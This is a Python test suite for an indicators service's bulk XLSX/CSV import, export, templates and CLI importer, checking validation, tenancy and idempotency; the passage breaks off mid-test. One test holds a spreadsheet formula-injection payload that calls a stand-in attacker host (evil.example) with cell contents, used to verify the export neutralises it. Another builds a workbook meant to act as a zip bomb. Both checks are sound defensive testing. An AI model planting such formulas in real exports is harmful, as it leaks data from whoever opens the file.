"""Bulk import and export of values: XLSX and CSV files, templates, round trips, tenancy."""

import io
import re
from decimal import Decimal
from typing import Any
from uuid import UUID

import httpx
import pytest
import typer
from openpyxl import load_workbook
from rich.console import Console
from sqlmodel import col, select
from sqlmodel.ext.asyncio.session import AsyncSession
from typer.testing import CliRunner

from services.indicators.cli_import import ImportFailed, import_command, import_file
from services.indicators.imports import parsing as imports_parsing
from services.indicators.imports import router as imports_router
from services.indicators.imports import service as imports_service
from services.indicators.imports.parsing import COLUMNS
from services.indicators.rounds.models import MeasurementRound
from services.indicators.values.models import IndicatorValue
from services.indicators.values.repository import SlotTaken, value_repository
from shared.enums import Role
from shared.identity import Principal
from tests.enrolment.support import Api, token_for
from tests.indicators.baseline import indicators_world, indicators_world_baseline
from tests.indicators.fixtures import IndicatorsWorld, sync_replica
from tests.indicators.imports_support import (
    XLSX,
    Catalogue,
    add_catalogue,
    add_indicator,
    add_round,
    csv_file,
    csv_rows,
    stored_values,
    xlsx_file,
    xlsx_rows,
)

__all__ = ["indicators_world", "indicators_world_baseline"]

NOTE = COLUMNS.index("note")
HEADER = [
    "enterprise_id",
    "enterprise_name",
    "indicator_code",
    "round_id",
    "month",
    "sex",
    "role",
    "value",
    "currency",
    "note",
]


@pytest.fixture
async def catalogue(indicators_session: AsyncSession) -> Catalogue:
    return await add_catalogue(indicators_session)


@pytest.fixture
async def baseline(
    indicators_world: IndicatorsWorld, indicators_session: AsyncSession
) -> MeasurementRound:
    return await add_round(indicators_session, indicators_world.world.pakistan_project_id)


def value_rows(enterprise_id: UUID, round_id: UUID, five_s: object = 85) -> list[list[object]]:
    """Four rows (spreadsheet rows 2-5); the 5S score is row 4."""
    e, r = str(enterprise_id), str(round_id)
    return [
        [e, "Karachi Knitwear", "imp_defects", r, None, "female", None, 12, None, None],
        [e, "Karachi Knitwear", "imp_defects", r, None, "male", None, 15, None, None],
        [e, "Karachi Knitwear", "imp_five_s_score", r, None, None, None, five_s, None, None],
        [e, "Karachi Knitwear", "imp_osh_policy", r, None, None, None, "yes", None, "policy seen"],
    ]


async def post_file(
    api: Api,
    data: bytes,
    *,
    as_: Principal,
    content_type: str = XLSX,
    headers: dict[str, str] | None = None,
    **params: str,
) -> httpx.Response:
    return await api.post(
        "/imports",
        params=params,
        content=data,
        headers={"Content-Type": content_type, **(headers or {})},
        as_=as_,
    )


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize(
    ("bad_value", "rule"), [(140, "percentage_range"), ("abc", "number_format")]
)
async def test_xlsx_with_one_bad_row_is_refused_whole_naming_that_row(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    bad_value: object,
    rule: str,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    data = xlsx_file(HEADER, value_rows(enterprise, baseline.id, five_s=bad_value))
    response = await post_file(
        indicators_api, data, as_=indicators_world.world.efp_staff, format="xlsx"
    )
    assert response.status_code == 422, response.text
    problem = response.json()
    assert response.headers["content-type"] == "application/problem+json"
    assert [(e["row"], e["column"], e["rule"]) for e in problem["errors"]] == [(4, "value", rule)]
    assert problem["errors"][0]["value"] == str(bad_value)
    assert (problem["rows_read"], problem["rejected"]) == (4, 1)
    assert await stored_values(indicators_session, enterprise) == 0


@pytest.mark.usefixtures("catalogue")
async def test_same_file_per_row_imports_the_good_rows_and_reports_the_bad_one(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    data = xlsx_file(HEADER, value_rows(enterprise, baseline.id, five_s=140))
    response = await post_file(
        indicators_api, data, as_=indicators_world.world.efp_staff, mode="per_row"
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["format"], report["rows_read"], report["accepted"], report["rejected"]) == (
        "xlsx",
        4,
        3,
        1,
    )
    assert [(e["row"], e["column"], e["rule"]) for e in report["errors"]] == [
        (4, "value", "percentage_range")
    ]
    assert await stored_values(indicators_session, enterprise) == 3
    stored = (
        await indicators_session.exec(
            select(IndicatorValue).where(IndicatorValue.enterprise_id == enterprise)
        )
    ).all()
    by_part = {(v.sex, v.value, v.value_bool, v.status) for v in stored}
    assert by_part == {
        ("female", 12, None, "draft"),
        ("male", 15, None, "draft"),
        (None, None, True, "draft"),
    }


@pytest.mark.usefixtures("catalogue")
async def test_dry_run_reports_without_writing(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    data = xlsx_file(HEADER, value_rows(enterprise, baseline.id, five_s=140))
    response = await post_file(
        indicators_api,
        data,
        as_=indicators_world.world.efp_staff,
        mode="per_row",
        dry_run="true",
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["dry_run"], report["accepted"], report["rejected"]) == (True, 3, 1)
    assert await stored_values(indicators_session, enterprise) == 0


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("mode", ["all_or_nothing", "per_row"])
async def test_a_value_given_twice_names_the_other_row_of_the_file(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    baseline: MeasurementRound,
    mode: str,
) -> None:
    e, r = str(indicators_world.efp_enterprise_id), str(baseline.id)
    rows: list[list[object]] = [
        [e, "", "imp_osh_policy", r, None, None, None, None, None, None],  # row 2: skipped
        [e, "", "imp_five_s_score", r, None, None, None, 50, None, None],
        [e, "", "imp_osh_policy", r, None, None, None, "yes", None, None],
        [e, "", "imp_five_s_score", r, None, None, None, 60, None, None],
    ]
    response = await post_file(
        indicators_api,
        csv_file(HEADER, rows),
        as_=indicators_world.world.efp_staff,
        content_type="text/csv",
        mode=mode,
    )
    errors = response.json()["errors"]
    # The batch said "also given at position 2" (and 0): places no spreadsheet shows.
    assert [(error["row"], error["rule"], error["message"]) for error in errors] == [
        (
            row,
            "duplicate_in_batch",
            "The same enterprise, indicator, period and disaggregation is also given in "
            f"row {other}: give each value once",
        )
        for row, other in ((3, 5), (5, 3))
    ]


@pytest.mark.usefixtures("catalogue")
async def test_an_import_racing_another_write_of_its_slots_says_to_retry(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    baseline: MeasurementRound,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async def taken(*args: object, **kwargs: object) -> None:
        # What the COPY meets when another request stored one of the slots first.
        raise SlotTaken

    monkeypatch.setattr(value_repository, "insert_new", taken)
    data = xlsx_file(HEADER, value_rows(indicators_world.efp_enterprise_id, baseline.id))
    response = await post_file(indicators_api, data, as_=indicators_world.world.efp_staff)
    assert response.status_code == 409, response.text
    # Not "The batch was refused": two imports of the same new rows at once, one retries.
    assert response.json()["detail"] == (
        "Another request wrote values for the same slots at the same time; "
        "retry the batch (nothing was written)"
    )


@pytest.mark.usefixtures("catalogue")
async def test_csv_import_as_raw_body_submits_for_review(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    data = csv_file(HEADER, value_rows(enterprise, baseline.id))
    response = await post_file(
        indicators_api,
        data,
        as_=indicators_world.world.efp_staff,
        content_type="text/csv",
        submit="true",
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["format"], report["accepted"], report["errors"]) == ("csv", 4, [])
    stored = (
        await indicators_session.exec(
            select(IndicatorValue).where(IndicatorValue.enterprise_id == enterprise)
        )
    ).all()
    assert {v.status for v in stored} == {"submitted"}
    assert {v.note for v in stored if v.value_bool} == {"policy seen"}


@pytest.mark.usefixtures("catalogue")
async def test_multipart_upload_infers_the_format_from_the_file_name(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    data = xlsx_file(HEADER, value_rows(enterprise, baseline.id))
    response = await indicators_api.post(
        "/imports",
        files={"file": ("baseline.xlsx", data, XLSX)},
        as_=indicators_world.world.efp_staff,
    )
    assert response.status_code == 200, response.text
    assert response.json()["format"] == "xlsx"
    assert await stored_values(indicators_session, enterprise) == 4


@pytest.mark.usefixtures("catalogue")
async def test_rows_left_empty_are_skipped_and_listed(
    indicators_api: Api, indicators_world: IndicatorsWorld, baseline: MeasurementRound
) -> None:
    rows = value_rows(indicators_world.efp_enterprise_id, baseline.id)
    rows[2][7] = None
    response = await post_file(
        indicators_api, xlsx_file(HEADER, rows), as_=indicators_world.world.efp_staff
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["accepted"], report["skipped"], report["skipped_rows"]) == (3, 1, [4])


@pytest.mark.usefixtures("catalogue")
async def test_header_problems_answer_422_on_row_one(
    indicators_api: Api, indicators_world: IndicatorsWorld, baseline: MeasurementRound
) -> None:
    header = [*HEADER[:7], "amount", *HEADER[8:]]
    response = await post_file(
        indicators_api,
        xlsx_file(header, value_rows(indicators_world.efp_enterprise_id, baseline.id)),
        as_=indicators_world.world.efp_staff,
        mode="per_row",
    )
    assert response.status_code == 422
    found = {(e["row"], e["column"], e["rule"]) for e in response.json()["errors"]}
    assert found == {(1, "amount", "unknown_column"), (1, "value", "missing_column")}


@pytest.mark.usefixtures("catalogue")
async def test_values_for_another_partners_enterprise_are_rejected_per_row(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    response = await post_file(
        indicators_api,
        xlsx_file(HEADER, value_rows(enterprise, baseline.id)),
        as_=indicators_world.world.mdpi_staff,
        mode="per_row",
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["accepted"], report["rejected"]) == (0, 4)
    assert {(e["column"], e["rule"]) for e in report["errors"]} >= {
        ("enterprise_id", "unknown_enterprise")
    }
    assert await stored_values(indicators_session, enterprise) == 0


@pytest.mark.parametrize("role", ["buyer", "manager"])
async def test_roles_that_never_enter_values_may_not_import(
    indicators_api: Api, indicators_world: IndicatorsWorld, role: str
) -> None:
    world = indicators_world.world
    principal = world.inditex if role == "buyer" else world.pakistan_manager
    data = csv_file(HEADER, [])
    response = await post_file(indicators_api, data, as_=principal, content_type="text/csv")
    assert response.status_code == 403


async def test_a_file_over_the_limit_answers_413(
    indicators_api: Api, indicators_world: IndicatorsWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports_router, "MAX_UPLOAD_BYTES", 1024)
    data = csv_file(HEADER, [["x"] * len(HEADER)] * 100)
    for send in (
        post_file(
            indicators_api, data, as_=indicators_world.world.efp_staff, content_type="text/csv"
        ),
        indicators_api.post(
            "/imports",
            files={"file": ("big.csv", data, "text/csv")},
            as_=indicators_world.world.efp_staff,
        ),
    ):
        response = await send
        assert response.status_code == 413
        assert response.json()["type"].endswith("/payload-too-large")


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("mode", ["all_or_nothing", "per_row"])
async def test_an_import_answer_lists_a_bounded_number_of_errors_and_counts_them_all(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    baseline: MeasurementRound,
    monkeypatch: pytest.MonkeyPatch,
    mode: str,
) -> None:
    # A file of 100,000 rows, every cell wrong, answered 800,000 errors (130 MB of JSON).
    monkeypatch.setattr(imports_service, "MAX_REPORTED_ERRORS", 3)
    enterprise, round_id = str(indicators_world.efp_enterprise_id), str(baseline.id)
    rows = [
        [enterprise, "", "imp_five_s_score", round_id, None, None, None, f"x{n}", None, None]
        for n in range(6)
    ]
    response = await post_file(
        indicators_api,
        csv_file(HEADER, rows),
        as_=indicators_world.world.efp_staff,
        content_type="text/csv",
        mode=mode,
    )
    assert response.status_code == (422 if mode == "all_or_nothing" else 200), response.text
    answer = response.json()
    assert (answer["rejected"], answer["errors_total"]) == (6, 6)
    assert [(error["row"], error["rule"]) for error in answer["errors"]] == [
        (2, "number_format"),
        (3, "number_format"),
        (4, "number_format"),
    ]


async def test_a_workbook_unpacking_past_the_limit_is_refused_before_it_is_read(
    indicators_api: Api, indicators_world: IndicatorsWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A zip bomb: 1 MB of workbook holding one long cell took the service to 2 GB of memory,
    # so the 10 MB the gateway lets through could take it down. Here, 40 notes of the 32,767
    # characters a cell holds against a limit of 1 MB.
    monkeypatch.setattr(imports_parsing, "MAX_UNPACKED_BYTES", 1024 * 1024, raising=False)
    enterprise = str(indicators_world.efp_enterprise_id)
    row = [enterprise, "", "defects", "", "2019-05", "", "", 1, "", "a" * 32_767]
    data = xlsx_file(HEADER, [row] * 40)
    assert len(data) < 100 * 1024

    response = await post_file(indicators_api, data, as_=indicators_world.world.efp_staff)

    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert (error["field"], error["rule"]) == ("file", "xlsx_unpacked_size")


@pytest.mark.usefixtures("catalogue")
async def test_idempotency_key_retry_writes_nothing_twice(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    data = xlsx_file(HEADER, value_rows(enterprise, baseline.id))
    key = {"Idempotency-Key": "efp-baseline-upload-1"}

    async def upload() -> httpx.Response:
        return await indicators_api.post(
            "/imports",
            files={"file": ("baseline.xlsx", data, XLSX)},
            headers=key,
            as_=indicators_world.world.efp_staff,
        )

    first = await upload()
    assert first.status_code == 200, first.text
    # A multipart retry of the same file is the same request, whatever its boundary.
    retry = await upload()
    assert retry.status_code == 200
    assert retry.headers["Idempotent-Replayed"] == "true"
    assert retry.json() == first.json()
    assert await stored_values(indicators_session, enterprise, current_only=False) == 4
    other = xlsx_file(HEADER, value_rows(enterprise, baseline.id, five_s=90))
    reused = await post_file(
        indicators_api, other, as_=indicators_world.world.efp_staff, headers=key
    )
    assert reused.status_code == 409


@pytest.mark.usefixtures("catalogue")
async def test_round_template_lists_the_rows_each_enterprise_needs(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    world = indicators_world.world
    response = await indicators_api.get(
        "/imports/template",
        params={"round_id": str(baseline.id), "format": "csv"},
        as_=world.efp_staff,
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="score-template-baseline-2024.csv"' in response.headers["content-disposition"]
    [header, *rows] = csv_rows(response.content)
    assert header[:3] == ["enterprise_id", "enterprise_name", "indicator_code"]
    at = {name: header.index(name) for name in header}
    ours = [row for row in rows if row[at["indicator_code"]].startswith("imp_")]
    needed = {
        (row[at["enterprise_id"]], row[at["indicator_code"]], row[at["sex"]], row[at["role"]])
        for row in ours
    }
    efp, other = (
        str(indicators_world.efp_enterprise_id),
        str(indicators_world.efp_other_enterprise_id),
    )
    assert needed == {
        (enterprise, code, sex, "")
        for enterprise in (efp, other)
        for code, sex in (
            ("imp_defects", "female"),
            ("imp_defects", "male"),
            ("imp_five_s_score", ""),
            ("imp_osh_policy", ""),
        )
    }
    assert len(ours) == len(needed)
    assert {row[at["round_id"]] for row in rows} == {str(baseline.id)}
    assert {row[at["value"]] for row in rows} == {""}
    # Neither another partner's enterprise nor one still at expression of interest.
    listed = {row[at["enterprise_id"]] for row in rows}
    assert str(indicators_world.mdpi_enterprise_id) not in listed
    assert str(indicators_world.not_enrolled_enterprise_id) not in listed


@pytest.mark.usefixtures("catalogue")
async def test_filled_xlsx_template_imports(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    response = await indicators_api.get(
        "/imports/template",
        params={"round_id": str(baseline.id), "enterprise_id": str(enterprise)},
        as_=indicators_world.world.efp_staff,
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    codes = [row[0] for row in xlsx_rows(response.content, "indicators")[1:]]
    assert {"imp_defects", "imp_five_s_score", "imp_osh_policy"} <= set(codes)
    [header, *rows] = xlsx_rows(response.content)
    at = {str(name): position for position, name in enumerate(header)}
    filled = []
    for row in rows:
        assert row[at["enterprise_id"]] == str(enterprise)
        code = row[at["indicator_code"]]
        if code == "imp_defects":
            row[at["value"]] = 3 if row[at["sex"]] == "female" else 4
        elif code == "imp_five_s_score":
            row[at["value"]] = 72.5
        elif code == "imp_osh_policy":
            row[at["value"]] = "no"
        else:
            continue
        filled.append(row)
    result = await post_file(
        indicators_api,
        xlsx_file([str(name) for name in header], filled),
        as_=indicators_world.world.efp_staff,
    )
    assert result.status_code == 200, result.text
    assert result.json()["accepted"] == 4
    assert await stored_values(indicators_session, enterprise) == 4


async def test_template_of_a_round_outside_your_enterprises_is_not_found(
    indicators_api: Api, indicators_world: IndicatorsWorld, baseline: MeasurementRound
) -> None:
    world = indicators_world.world
    response = await indicators_api.get(
        "/imports/template", params={"round_id": str(baseline.id)}, as_=world.mdpi_staff
    )
    assert response.status_code == 404
    response = await indicators_api.get(
        "/imports/template",
        params={
            "round_id": str(baseline.id),
            "enterprise_id": str(indicators_world.mdpi_enterprise_id),
        },
        as_=world.efp_staff,
    )
    assert response.status_code == 404


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
async def test_exported_values_reimport_cleanly(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    file_format: str,
) -> None:
    enterprise = indicators_world.efp_enterprise_id
    staff = indicators_world.world.efp_staff
    imported = await post_file(
        indicators_api, xlsx_file(HEADER, value_rows(enterprise, baseline.id)), as_=staff
    )
    assert imported.status_code == 200, imported.text
    exported = await indicators_api.get(
        "/exports/values",
        params={"enterprise_id": str(enterprise), "format": file_format},
        as_=staff,
    )
    assert exported.status_code == 200, exported.text
    assert "attachment; filename=" in exported.headers["content-disposition"]
    again = await post_file(
        indicators_api,
        exported.content,
        as_=staff,
        content_type=exported.headers["content-type"],
        format=file_format,
    )
    assert again.status_code == 200, again.text
    assert (again.json()["accepted"], again.json()["errors"]) == (4, [])
    assert await stored_values(indicators_session, enterprise) == 4
    rows = (
        xlsx_rows(exported.content)
        if file_format == "xlsx"
        else [list(row) for row in csv_rows(exported.content)]
    )
    values = {(row[2], row[6] or None, str(row[8])) for row in rows[1:]}
    assert values == {
        ("imp_defects", "female", "12"),
        ("imp_defects", "male", "15"),
        ("imp_five_s_score", None, "85"),
        ("imp_osh_policy", None, "yes"),
    }


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
async def test_figures_a_double_cannot_hold_export_and_reimport_digit_for_digit(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    file_format: str,
) -> None:
    energy = await add_indicator(indicators_session, "imp_energy", kind="rate", unit="kWh")
    savings = await add_indicator(indicators_session, "imp_savings", kind="amount")
    enterprise, staff = indicators_world.efp_enterprise_id, indicators_world.world.efp_staff
    e, r = str(enterprise), str(baseline.id)
    figures = {
        energy.id: Decimal("0.12345678901234567891"),
        savings.id: Decimal("12345678901234567.891"),
    }
    rows = [
        [e, "", "imp_energy", r, None, None, None, "0.12345678901234567891", None, None],
        [e, "", "imp_savings", r, None, None, None, "12345678901234567.891", "PKR", None],
    ]
    imported = await post_file(
        indicators_api, csv_file(HEADER, rows), as_=staff, content_type="text/csv"
    )
    assert imported.status_code == 200, imported.text
    exported = await indicators_api.get(
        "/exports/values", params={"enterprise_id": e, "format": file_format}, as_=staff
    )
    assert exported.status_code == 200, exported.text
    again = await post_file(
        indicators_api,
        exported.content,
        as_=staff,
        content_type=exported.headers["content-type"],
        format=file_format,
    )
    assert (again.status_code, again.json()["accepted"]) == (200, 2), again.text
    # A spreadsheet number is a double (15-17 digits): 12345678901234567.891 came back
    # as 12345678901234568.
    stored = (
        await indicators_session.exec(
            select(IndicatorValue).where(
                IndicatorValue.enterprise_id == enterprise,
                col(IndicatorValue.is_current).is_(True),
            )
        )
    ).all()
    assert {value.indicator_id: value.value for value in stored} == figures


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
async def test_a_note_typed_as_a_formula_is_exported_as_text_and_reimports_as_typed(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    file_format: str,
) -> None:
    # Whoever opens the export must not run what a partner typed: the XLSX held the note as
    # a live formula (<f>HYPERLINK(...)</f>) and the CSV as a cell spreadsheets evaluate.
    enterprise = indicators_world.efp_enterprise_id
    staff = indicators_world.world.efp_staff
    note = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
    entered = await indicators_api.post(
        "/values/batches",
        json={
            "values": [
                {
                    "enterprise_id": str(enterprise),
                    "indicator_code": "imp_five_s_score",
                    "round_id": str(baseline.id),
                    "value": "85",
                    "note": note,
                }
            ]
        },
        as_=staff,
    )
    assert entered.status_code == 201, entered.text

    exported = await indicators_api.get(
        "/exports/values",
        params={"enterprise_id": str(enterprise), "format": file_format},
        as_=staff,
    )

    assert exported.status_code == 200, exported.text
    if file_format == "xlsx":
        workbook = load_workbook(io.BytesIO(exported.content), read_only=True)
        try:
            [row] = workbook["values"].iter_rows(min_row=2)
            cell = row[NOTE]
            assert (cell.data_type, cell.value) == ("s", note)
        finally:
            workbook.close()
    else:
        [line] = csv_rows(exported.content)[1:]
        assert line[NOTE] == "'" + note
    again = await post_file(
        indicators_api,
        exported.content,
        as_=staff,
        content_type=exported.headers["content-type"],
        format=file_format,
    )
    assert again.status_code == 200, again.text
    [stored] = (
        await indicators_session.execute(
            select(IndicatorValue.note).where(
                IndicatorValue.enterprise_id == enterprise, IndicatorValue.is_current
            )
        )
    ).all()
    assert stored.note == note


@pytest.mark.usefixtures("catalogue")
async def test_cohort_export_holds_its_enterprises_values_only(
    api: Api,
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
) -> None:
    world = indicators_world.world
    efp, other = indicators_world.efp_enterprise_id, indicators_world.efp_other_enterprise_id
    rows = value_rows(efp, baseline.id) + value_rows(other, baseline.id)
    imported = await post_file(indicators_api, xlsx_file(HEADER, rows), as_=world.efp_staff)
    assert imported.status_code == 200, imported.text
    cohort = await api.created(
        "/cohorts",
        {
            "project_id": str(world.pakistan_project_id),
            "module_code": "workplace_cooperation",
            "name": "Karachi batch",
            "enterprise_ids": [str(efp)],
        },
        as_=world.efp_staff,
    )
    await sync_replica(api, indicators_session)
    exported = await indicators_api.get(
        "/exports/values", params={"cohort_id": cohort["id"], "format": "csv"}, as_=world.efp_staff
    )
    assert exported.status_code == 200, exported.text
    [_, *exported_rows] = csv_rows(exported.content)
    assert {row[0] for row in exported_rows} == {str(efp)}
    assert len(exported_rows) == 4
    hidden = await indicators_api.get(
        "/exports/values", params={"cohort_id": cohort["id"]}, as_=world.mdpi_staff
    )
    assert hidden.status_code == 404


@pytest.mark.parametrize("who", ["mdpi_staff", "inditex", "ghana_manager"])
async def test_export_of_another_tenants_enterprise_is_not_found(
    indicators_api: Api, indicators_world: IndicatorsWorld, who: str
) -> None:
    principal: Principal = getattr(indicators_world.world, who)
    response = await indicators_api.get(
        "/exports/values",
        params={"enterprise_id": str(indicators_world.efp_enterprise_id)},
        as_=principal,
    )
    assert response.status_code == 404


async def test_export_needs_exactly_one_of_enterprise_or_cohort(
    indicators_api: Api, indicators_world: IndicatorsWorld
) -> None:
    response = await indicators_api.get("/exports/values", as_=indicators_world.world.efp_staff)
    assert response.status_code == 422
    assert response.json()["errors"][0]["rule"] == "one_of"


def cli_console() -> tuple[Console, io.StringIO]:
    output = io.StringIO()
    return Console(file=output, width=200, force_terminal=False), output


@pytest.mark.usefixtures("catalogue")
async def test_cli_import_per_row_in_chunks_reports_file_rows_and_totals(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    tmp_path: Any,
) -> None:
    efp, other = indicators_world.efp_enterprise_id, indicators_world.efp_other_enterprise_id
    rows = value_rows(efp, baseline.id) + value_rows(other, baseline.id, five_s=140)
    path = tmp_path / "baseline.xlsx"
    path.write_bytes(xlsx_file(HEADER, rows))
    console, output = cli_console()
    summary = await import_file(
        path,
        token=token_for(indicators_world.world.efp_staff),
        mode="per_row",
        chunk_size=2,
        client=indicators_api.client,
        console=console,
    )
    assert (summary.rows_read, summary.accepted, summary.rejected) == (8, 7, 1)
    # The other enterprise's 5S score is row 8 of the file, whichever chunk carried it.
    assert [(e["row"], e["column"], e["rule"]) for e in summary.errors] == [
        (8, "value", "percentage_range")
    ]
    assert summary.chunks_sent >= 3
    assert summary.written
    text = output.getvalue()
    assert "percentage_range" in text
    assert re.search(r"accepted\W+7\b", text)
    assert re.search(r"rejected\W+1\b", text)
    assert await stored_values(indicators_session, efp) == 4
    assert await stored_values(indicators_session, other) == 3


@pytest.mark.usefixtures("catalogue")
async def test_cli_import_says_how_many_errors_the_service_did_not_list(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    baseline: MeasurementRound,
    tmp_path: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(imports_service, "MAX_REPORTED_ERRORS", 3)
    enterprise, round_id = str(indicators_world.efp_enterprise_id), str(baseline.id)
    rows = [
        [enterprise, "", "imp_five_s_score", round_id, None, None, None, f"x{n}", None, None]
        for n in range(6)
    ]
    path = tmp_path / "bad.csv"
    path.write_bytes(csv_file(HEADER, rows))
    console, output = cli_console()
    summary = await import_file(
        path,
        token=token_for(indicators_world.world.efp_staff),
        mode="per_row",
        client=indicators_api.client,
        console=console,
    )
    assert (summary.rejected, len(summary.errors), summary.errors_unlisted) == (6, 3, 3)
    assert "3 more the service counted but did not list" in output.getvalue()


@pytest.mark.usefixtures("catalogue")
async def test_cli_import_all_or_nothing_writes_nothing_when_a_chunk_has_errors(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    tmp_path: Any,
) -> None:
    efp, other = indicators_world.efp_enterprise_id, indicators_world.efp_other_enterprise_id
    rows = value_rows(efp, baseline.id) + value_rows(other, baseline.id, five_s="abc")
    path = tmp_path / "baseline.csv"
    path.write_bytes(csv_file(HEADER, rows))
    console, output = cli_console()
    summary = await import_file(
        path,
        token=token_for(indicators_world.world.efp_staff),
        chunk_size=4,
        client=indicators_api.client,
        console=console,
    )
    assert not summary.written
    assert [(e["row"], e["column"], e["rule"]) for e in summary.errors] == [
        (8, "value", "number_format")
    ]
    assert "Nothing was imported" in output.getvalue()
    assert await stored_values(indicators_session, efp) == 0


@pytest.mark.usefixtures("catalogue")
async def test_cli_import_names_a_repeated_value_by_its_rows_in_the_file(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    baseline: MeasurementRound,
    tmp_path: Any,
) -> None:
    e, r = str(indicators_world.efp_enterprise_id), str(baseline.id)
    rows: list[list[object]] = [
        [e, "", "imp_osh_policy", r, None, None, None, "yes", None, None],
        [e, "", "imp_five_s_score", r, None, None, None, 50, None, None],
        [e, "", "imp_osh_policy", r, None, None, None, "no", None, None],
    ]
    path = tmp_path / "twice.csv"
    path.write_bytes(csv_file(HEADER, rows))
    console, _ = cli_console()
    # Chunks carry a value's rows together: rows 2 and 4 of the file are rows 2 and 3 of one.
    summary = await import_file(
        path,
        token=token_for(indicators_world.world.efp_staff),
        mode="per_row",
        chunk_size=1,
        client=indicators_api.client,
        console=console,
    )
    assert [(e["row"], e["message"].split(" given in ")[1]) for e in summary.errors] == [
        (2, "row 4: give each value once"),
        (4, "row 2: give each value once"),
    ]


@pytest.mark.usefixtures("catalogue")
async def test_cli_import_lists_the_rows_whose_values_await_review(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    baseline: MeasurementRound,
    tmp_path: Any,
) -> None:
    staff = indicators_world.world.efp_staff
    rows = value_rows(indicators_world.efp_enterprise_id, baseline.id)
    submitted = await post_file(indicators_api, xlsx_file(HEADER, rows), as_=staff, submit="true")
    assert submitted.status_code == 200, submitted.text
    path = tmp_path / "again.csv"
    path.write_bytes(csv_file(HEADER, rows))
    console, output = cli_console()
    # The service answers 409 naming each row: the report names them too, by file row.
    summary = await import_file(
        path, token=token_for(staff), client=indicators_api.client, console=console
    )
    assert not summary.written
    assert [(e["row"], e["rule"]) for e in summary.errors] == [
        (row, "under_review") for row in (2, 3, 4, 5)
    ]
    assert "Nothing was imported" in output.getvalue()


@pytest.mark.usefixtures("catalogue")
async def test_cli_rerun_of_an_import_duplicates_nothing(
    indicators_api: Api,
    indicators_world: IndicatorsWorld,
    indicators_session: AsyncSession,
    baseline: MeasurementRound,
    tmp_path: Any,
) -> None:
    efp = indicators_world.efp_enterprise_id
    path = tmp_path / "baseline.xlsx"
    path.write_bytes(xlsx_file(HEADER, value_rows(efp, baseline.id)))
    token = token_for(indicators_world.world.efp_staff)
    for _ in range(2):
        console, _output = cli_console()
        summary = await import_file(
            path, token=token, chunk_size=2, client=indicators_api.client, console=console
        )
        assert (summary.accepted, summary.errors) == (4, [])
    assert await stored_values(indicators_session, efp, current_only=False) == 4


async def test_cli_refusal_of_the_whole_import_is_raised(
    indicators_api: Api, indicators_world: IndicatorsWorld, tmp_path: Any
) -> None:
    path = tmp_path / "values.csv"
    path.write_bytes(csv_file(HEADER, [[str(indicators_world.efp_enterprise_id), "", "x"]]))
    buyer = Principal(
        subject="buyer", role=Role.lead_buyer, organisation_id=indicators_world.world.inditex_id
    )
    console, _ = cli_console()
    with pytest.raises(ImportFailed, match="403"):
        await import_file(
